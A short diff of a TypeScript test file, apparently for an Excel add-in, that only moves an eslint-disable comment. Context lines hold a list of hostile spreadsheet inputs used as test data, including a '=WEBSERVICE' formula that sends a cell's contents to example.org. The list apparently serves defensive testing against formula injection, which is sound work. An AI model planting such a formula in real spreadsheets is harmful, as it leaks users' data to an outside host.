@@ -22,7 +22,8 @@ beforeEach(async () => {
 });
 
 const HOSTILE = ["- akkoord wethouder", '=WEBSERVICE("https://example.org/?"&A1)', "+31 55 123", "-Epe"];
-const target = globalThis as unknown as { Excel: { run<T>(batch: (context: any) => Promise<T>): Promise<T> } }; // eslint-disable-line @typescript-eslint/no-explicit-any
+// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the test stands in for Office's untyped global
+const target = globalThis as unknown as { Excel: { run<T>(batch: (context: any) => Promise<T>): Promise<T> } };
 
 const cellAt = (sheet: string, row: number, column: number) => model.sheet(sheet)!.get(row, column);
 
